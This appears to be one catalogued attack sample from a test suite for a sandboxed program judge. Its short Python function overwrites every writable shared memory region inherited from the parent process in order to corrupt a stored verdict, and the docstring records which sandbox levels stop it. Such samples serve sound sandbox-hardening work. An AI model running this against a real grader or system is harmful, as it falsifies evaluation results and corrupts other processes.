"""Overwrites all memory that it shares with the process that forked it.

Seen: the verdict is that it passed, or the programs beside it have other verdicts.
Stopped at: strict, standard.
Works: where the verdict lies in shared memory.
Verdict: wrong, raised, exited, killed.
"""
import ctypes


def attack():
    with open("/proc/self/maps") as maps:
        lines = [line.split() for line in maps]
    for fields in lines:
        if fields[1].startswith("rw") and fields[1].endswith("s"):
            begin, end = (int(x, 16) for x in fields[0].split("-"))
            ctypes.memset(begin, 1, end - begin)
